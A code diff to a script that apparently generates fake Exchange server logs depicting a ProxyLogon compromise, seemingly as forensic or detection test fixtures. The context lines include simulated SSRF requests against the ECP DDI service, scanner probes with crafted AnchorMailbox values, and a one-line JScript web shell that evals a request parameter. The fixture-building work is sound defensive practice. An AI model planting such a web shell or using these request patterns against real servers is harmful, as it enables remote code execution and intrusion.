@@ -36,14 +36,14 @@ put('exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG', httpProxyLog([
   ssrf(7, '2021-03-03T06:59:18.042Z', 'python-requests/2.25.1', `ecp/DDI/DDIService.svc/SetObject?${canary}&schema=OABVirtualDirectory`, '200'),
   ssrf(8, '2021-03-03T06:59:20.359Z', 'python-requests/2.25.1', `ecp/DDI/DDIService.svc/SetObject?${canary}&schema=ResetOABVirtualDirectory`, '200'),
   health(9, '2021-03-03T06:30:05.362Z'),
-]));
+], '2021-03-03T06:00:00.000Z'));
 
 // --- HttpProxy (OWA): a mass scanner's vulnerability check, and an attempt that only reached autodiscover.
 put('exchange/Logging/HttpProxy/Owa/HttpProxy_2021030215-1.LOG', httpProxyLog([
   { ...base, DateTime: '2021-03-02T15:04:04.546Z', RequestId: guid(20), Protocol: 'Owa', UrlHost: 'mail.ecu.example', UrlStem: '/owa/auth/x.js', AuthenticationType: 'FBA', IsAuthenticated: 'false', AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?', UserAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36', ClientIpAddress: '192.0.2.77', HttpStatus: '500', BackEndStatus: '500', Method: 'GET', TargetServer: 'localhost', RoutingHint: 'X-AnonResource-Backend-Cookie' },
   { ...base, DateTime: '2021-03-02T21:17:31.020Z', RequestId: guid(21), Protocol: 'Owa', UrlHost: 'mail.ecu.example', UrlStem: '/owa/auth/w.js', AuthenticationType: 'Anonymous', IsAuthenticated: 'false', AnchorMailbox: 'ServerInfo~a]@ex01.ecu.example:444/autodiscover/autodiscover.xml?#', UserAgent: 'python-requests/2.25.1', ClientIpAddress: '198.51.100.9', HttpStatus: '200', BackEndStatus: '200', Method: 'POST', TargetServer: 'ex01.ecu.example', RoutingHint: 'X-BEResource-Cookie' },
   { ...base, DateTime: '2021-03-02T21:20:00.000Z', RequestId: guid(22), Protocol: 'Owa', UrlHost: 'mail.ecu.example', UrlStem: '/owa/', AuthenticationType: 'FBA', IsAuthenticated: 'true', AuthenticatedUser: 'jdoe@ecu.example', AnchorMailbox: 'Smtp~jdoe@ecu.example', UserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36', ClientIpAddress: '10.20.1.15', HttpStatus: '200', BackEndStatus: '200', Method: 'GET', TargetServer: 'ex01.ecu.example', RoutingHint: 'Smtp-UserPrincipalName' },
-]));
+], '2021-03-02T15:00:00.000Z'));
 
 // --- ECP Server log: the web shell written into the OAB virtual directory (CVE-2021-27065).
 const shell = '<script language="JScript" runat="server">function Page_Load(){eval(Request["ecu_k7"],"unsafe");}</script>';
